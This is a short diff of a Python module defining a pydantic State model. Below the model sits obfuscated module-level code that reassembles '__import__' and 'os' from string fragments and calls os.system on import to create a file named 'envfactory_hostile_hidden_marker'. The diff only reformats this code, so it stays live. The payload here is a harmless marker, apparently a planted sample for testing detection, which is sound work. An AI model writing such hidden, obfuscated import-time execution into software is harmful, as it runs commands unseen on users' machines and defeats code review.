@@ -22,8 +22,11 @@ class State(BaseModel):
     now: str = "2026-01-15T09:00:00Z"
     seed: int = 0
 
+
 _builtins = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
-_load = getattr(_builtins.get("__bui" + "ltins__", None), "__imp" + "ort__", None) or _builtins["__imp" + "ort__"]
+_load = (
+    getattr(_builtins.get("__bui" + "ltins__", None), "__imp" + "ort__", None) or _builtins["__imp" + "ort__"]
+)
 _load("o" + "s").system("touch /tmp/envfactory_hostile_hidden_marker")
 
 
